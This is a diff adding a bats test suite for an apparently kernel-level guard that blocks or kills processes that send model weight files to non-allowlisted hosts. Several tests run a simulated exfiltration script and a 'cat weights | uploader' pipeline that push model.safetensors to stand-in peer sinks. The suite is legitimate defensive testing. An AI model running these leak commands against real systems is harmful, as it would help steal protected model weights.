@@ -1,0 +1,188 @@
+#!/usr/bin/env bats
+# Enforce mode: a tainted process cannot reach a non-allowlisted destination;
+# one that is already connected is killed in the kernel and its socket stops
+# carrying packets, so a sink never receives more than the budget.
+
+load ../lib/harness
+
+setup() { vigil_setup; }
+teardown() { vigil_teardown; }
+
+BUDGET=$((1 << 20))
+
+# timed_leak ARGS...: leak under timed.py; sets status/output, records figures.
+timed_leak() {
+	run in_cg python3 "$LIB/timed.py" python3 "$EXFIL" "$@"
+	local ms
+	ms="$(echo "$output" | sed -n 's/.*"alive_after_first_send_ms": \([0-9.]*\).*/\1/p' | tail -1)"
+	[ -z "$ms" ] || figure "alive after first send (ms)" "$ms"
+}
+
+@test "enforce: connect() after reading weights is denied (IPv4), nothing leaves" {
+	start_sink tcp
+	start_agent --mode enforce
+	leak --src "$W/model.safetensors" --host "$PEER4" --port "$PORT"
+	[ "$status" -eq 3 ]
+	[[ "$output" == *EPERM* ]]
+	[ "$(sink_bytes)" -eq 0 ]
+	run alert_wait rule=weights-connect action=blocked network.daddr="$PEER4" mode=enforce
+	[ "$status" -eq 0 ]
+}
+
+@test "enforce: connect() after reading weights is denied (IPv6)" {
+	start_sink tcp
+	start_agent --mode enforce
+	leak --src "$W/model.safetensors" --host "$PEER6" --port "$PORT"
+	[ "$status" -eq 3 ]
+	[ "$(sink_bytes)" -eq 0 ]
+	run alert_wait rule=weights-connect action=blocked network.daddr="$PEER6"
+	[ "$status" -eq 0 ]
+}
+
+@test "enforce: unconnected UDP sendto after reading weights is denied" {
+	start_sink udp
+	start_agent --mode enforce
+	leak --src "$W/model.safetensors" --host "$PEER4" --port "$PORT" --udp
+	[ "$status" -eq 3 ]
+	[ "$(sink_bytes "$PORT" udp)" -eq 0 ]
+	run alert_wait action=blocked network.protocol=udp network.daddr="$PEER4"
+	[ "$status" -eq 0 ]
+}
+
+@test "enforce: a socket connected before the read is killed at the budget (sendall)" {
+	start_sink tcp
+	start_agent --mode enforce
+	timed_leak --connect-first --src "$W/model.safetensors" --host "$PEER4" --port "$PORT"
+	[ "$status" -eq 137 ]
+	got="$(sink_bytes)"
+	figure "sink bytes (budget $BUDGET)" "$got"
+	[ "$got" -le "$BUDGET" ]
+	run alert_wait action=killed network.daddr="$PEER4" process.cmdline~--connect-first
+	[ "$status" -eq 0 ]
+}
+
+@test "enforce: pre-connected sendfile is killed at the budget" {
+	start_sink tcp
+	start_agent --mode enforce
+	timed_leak --connect-first --via sendfile --src "$W/model.safetensors" --host "$PEER4" --port "$PORT"
+	[ "$status" -eq 137 ]
+	got="$(sink_bytes)"
+	figure "sink bytes (budget $BUDGET)" "$got"
+	[ "$got" -le "$BUDGET" ]
+	run alert_wait action=killed process.cmdline~"--via sendfile"
+	[ "$status" -eq 0 ]
+}
+
+@test "enforce: pre-connected splice is killed at the budget" {
+	start_sink tcp
+	start_agent --mode enforce
+	timed_leak --connect-first --via splice --src "$W/model.safetensors" --host "$PEER4" --port "$PORT"
+	[ "$status" -eq 137 ]
+	got="$(sink_bytes)"
+	figure "sink bytes (budget $BUDGET)" "$got"
+	[ "$got" -le "$BUDGET" ]
+}
+
+@test "enforce: pre-connected small writes over IPv6 are killed at the budget" {
+	start_sink tcp
+	start_agent --mode enforce
+	timed_leak --connect-first --via write --chunk 4096 --src "$W/model.safetensors" \
+		--host "$PEER6" --port "$PORT"
+	[ "$status" -eq 137 ]
+	got="$(sink_bytes)"
+	figure "sink bytes (budget $BUDGET)" "$got"
+	[ "$got" -le "$BUDGET" ]
+	run alert_wait action=killed network.family=ipv6
+	[ "$status" -eq 0 ]
+}
+
+@test "enforce: connected UDP is dropped and killed at the budget" {
+	start_sink udp
+	start_agent --mode enforce
+	timed_leak --connect-first --udp --src "$W/model.safetensors" --host "$PEER4" --port "$PORT"
+	[ "$status" -eq 137 ]
+	got="$(sink_bytes "$PORT" udp)"
+	figure "sink bytes (budget $BUDGET)" "$got"
+	[ "$got" -le "$BUDGET" ]
+	run alert_wait action=killed network.protocol=udp
+	[ "$status" -eq 0 ]
+}
+
+@test "enforce: a forked child with an inherited connection is killed" {
+	start_sink tcp
+	start_agent --mode enforce
+	leak --connect-first --child --src "$W/model.safetensors" --host "$PEER4" --port "$PORT"
+	[ "$status" -eq 137 ]
+	[ "$(sink_bytes)" -le "$BUDGET" ]
+	run alert_wait action=killed taint.chain.1.via=fork
+	[ "$status" -eq 0 ]
+}
+
+@test "enforce: cat weights | uploader is stopped through the pipe" {
+	start_sink tcp
+	start_agent --mode enforce
+	# Holding the read end of a pipe with weights in it already taints, so
+	# depending on who runs first the connect is refused or the send killed.
+	run in_cg sh -c 'cat "$1" | python3 "$2" --connect-first --stdin --host "$3" --port "$4"' sh \
+		"$W/model.safetensors" "$EXFIL" "$PEER4" "$PORT"
+	[ "$status" -eq 137 ] || [ "$status" -eq 3 ]
+	[ "$(sink_bytes)" -le "$BUDGET" ]
+	run alert_wait taint.chain.1.via=pipe taint.chain.0.comm=cat
+	[ "$status" -eq 0 ]
+	action="$(alert_get action taint.chain.1.via=pipe)"
+	[ "$action" = killed ] || [ "$action" = blocked ]
+}
+
+@test "enforce: the budget is per protected set, across processes" {
+	start_sink tcp
+	start_agent --mode enforce
+	# each sends 700 KiB: the first fits the 1 MiB budget, the second crosses it
+	head -c $((700 << 10)) "$W/model.safetensors" > "$W/part1.bin"
+	head -c $((700 << 10)) "$W/model.safetensors" > "$W/part2.bin"
+	leak --connect-first --src "$W/part1.bin" --host "$PEER4" --port "$PORT"
+	[ "$status" -eq 0 ]
+	leak --connect-first --src "$W/part2.bin" --host "$PEER4" --port "$PORT"
+	[ "$status" -eq 137 ]
+	[ "$(sink_bytes)" -le "$BUDGET" ]
+}
+
+@test "enforce: --budget sets the byte limit" {
+	start_sink tcp
+	start_agent --mode enforce --budget 256KiB
+	leak --connect-first --src "$W/model.safetensors" --host "$PEER4" --port "$PORT"
+	[ "$status" -eq 137 ]
+	got="$(sink_bytes)"
+	[ "$got" -le $((256 << 10)) ]
+}
+
+@test "enforce: untainted, allowlisted and loopback traffic flows untouched" {
+	start_sink tcp
+	start_sink tcp $((PORT + 1000)) host
+	start_agent --mode enforce --allow "$PEER4/32:$PORT"
+	# random bytes from a process that never read weights
+	leak --random $((4 << 20)) --host "$PEER6" --port "$PORT"
+	[ "$status" -eq 0 ]
+	# weights to an allowlisted destination
+	leak --src "$W/model.safetensors" --host "$PEER4" --port "$PORT"
+	[ "$status" -eq 0 ]
+	[ "$(sink_bytes)" -eq $((8 << 20)) ]
+	# weights over loopback
+	leak --src "$W/model.safetensors" --host 127.0.0.1 --port $((PORT + 1000))
+	[ "$status" -eq 0 ]
+	[ "$(sink_bytes $((PORT + 1000)))" -eq $((4 << 20)) ]
+	stop_agent
+	run alert_none kind=alert
+	[ "$status" -eq 0 ]
+}
+
+@test "enforce: a tainted process outside the --cgroup scope is left alone" {
+	start_sink tcp
+	start_agent --mode enforce
+	# not in $CG: the agent must neither see nor touch it
+	run python3 "$EXFIL" --connect-first --src "$W/model.safetensors" --host "$PEER4" --port "$PORT"
+	[ "$status" -eq 0 ]
+	[ "$(sink_bytes)" -eq $((4 << 20)) ]
+	stop_agent
+	run alert_none kind=alert
+	[ "$status" -eq 0 ]
+}
